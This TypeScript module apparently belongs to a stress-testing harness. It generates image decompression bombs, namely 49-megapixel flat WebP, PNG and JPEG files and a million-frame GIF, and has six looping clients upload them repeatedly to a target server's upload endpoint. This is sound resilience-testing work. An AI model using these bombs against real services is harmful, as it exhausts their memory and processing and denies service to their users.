import sharp from 'sharp'
import { type Attacker, createTally, pause, runLoops } from '../attacker.ts'
import { announce } from './announce.ts'
import { sendRequest } from './http-request.ts'

const loops = 6
const againMs = 250
const frames = 1_000_000

interface Bomb {
  readonly name: string
  readonly mimeType: string
  readonly body: Buffer
}

/** A GIF of frames of one pixel, which all are the same few bytes. */
function gifOf(count: number): Buffer {
  const head = Buffer.from('47494638396101000100800000000000ffffff', 'hex')
  const one = Buffer.from('21f90400010000002c00000000010001000002024401 00'.replaceAll(' ', ''), 'hex')
  const all = Buffer.alloc(one.byteLength * count)
  all.fill(one)
  return Buffer.concat([head, all, Buffer.from(';')])
}

async function makeBombs(): Promise<Bomb[]> {
  const flat = (side: number) =>
    sharp({ create: { width: side, height: side, channels: 3, background: '#345' }, limitInputPixels: false })
  return [
    { name: 'flat.webp', mimeType: 'image/webp', body: await flat(7_000).webp({ effort: 0 }).toBuffer() },
    { name: 'flat.png', mimeType: 'image/png', body: await flat(7_000).png({ compressionLevel: 9 }).toBuffer() },
    { name: 'flat.jpeg', mimeType: 'image/jpeg', body: await flat(7_000).jpeg({ progressive: true }).toBuffer() },
    { name: 'frames.gif', mimeType: 'image/gif', body: gifOf(frames) },
  ]
}

/** Pictures that are small as files and large as pixels, or have very many frames. */
export const images: Attacker = {
  name: 'images',
  what: `${loops} clients upload pictures of 49 megapixels, and of a million frames`,
  async start({ url, people }) {
    const tally = createTally()
    const bombs = await makeBombs()
    const stop = runLoops({ count: loops, addresses: 2, firstAddress: 60 }, async ({ index, address, signal }) => {
      const person = people[(people.length - 1 - index + people.length) % people.length]
      const bomb = bombs[(index + tally.counts().sent) % bombs.length]
      if (!person || !bomb) return
      const { name, mimeType, body } = bomb
      const announced = await announce(url, person, { name, mimeType, bytes: body.byteLength })
      if (!announced) tally.end('not announced')
      else {
        const { how } = await sendRequest(`${url}${announced.path}`, { address, method: 'PUT', body })
        tally.add(body.byteLength)
        tally.end(how)
      }
      await pause(announced === null ? 5_000 : againMs, signal)
    })
    return { counts: tally.counts, stop }
  },
}
